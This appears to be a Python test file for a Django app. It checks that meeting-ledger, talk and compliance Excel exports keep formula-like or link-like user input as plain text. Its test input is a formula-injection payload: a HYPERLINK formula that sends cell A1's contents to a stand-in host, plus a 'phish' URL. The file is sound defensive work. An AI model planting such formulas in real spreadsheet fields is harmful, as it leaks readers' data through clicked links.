"""Exports keep what users typed as text: a title or topic that starts with "=" or looks like a
link must not become a formula or a hyperlink in the reader's Excel or WPS (formula injection)."""

from __future__ import annotations

import io

from openpyxl import load_workbook

from tiejun.life.models import Talk
from tiejun.life.tests.helpers import make_meeting
from tiejun.testing import make_member

FORMULA = '=HYPERLINK("http://example.invalid/?q="&A1,"点击查看")'
LINK = "http://example.invalid/phish"


def _cells(content: bytes) -> list:
    sheet = load_workbook(io.BytesIO(content)).active
    return [cell for row in sheet.iter_rows() for cell in row if cell.value is not None]


def _assert_text(content: bytes, *typed: str) -> None:
    cells = {cell.value: cell for cell in _cells(content)}
    for text in typed:
        assert text in cells, text
        assert cells[text].data_type == "s" and cells[text].hyperlink is None, text


def test_the_meeting_ledger_keeps_a_formula_like_title_as_text(client, people, today):
    make_meeting(people.branch_a, held_on=today, title=FORMULA, place=LINK)
    client.force_login(people.secretary_a)
    response = client.get(f"/meetings/ledger.xlsx?org={people.branch_a.pk}&year={today.year}")
    _assert_text(response.content, FORMULA, LINK)


def test_the_talk_export_keeps_a_formula_like_topic_as_text(client, people, today):
    talker = make_member(people.branch_a, "王书记")
    Talk.objects.create(
        org=people.branch_a, talker=talker, talkee=people.zhang, held_on=today, topic=FORMULA
    )
    client.force_login(people.secretary_a)
    _assert_text(client.get(f"/talks/export.xlsx?year={today.year}").content, FORMULA)


def test_the_compliance_export_keeps_a_formula_like_org_name_as_text(client, people):
    people.branch_a.name = "=1+1"
    people.branch_a.save(update_fields=["name"])
    client.force_login(people.office)
    content = client.get("/compliance/export.xlsx", {"period": "2026-Q3"}).content
    named = [cell for cell in _cells(content) if "=1+1" in str(cell.value)]
    assert named and all(cell.data_type == "s" for cell in named)
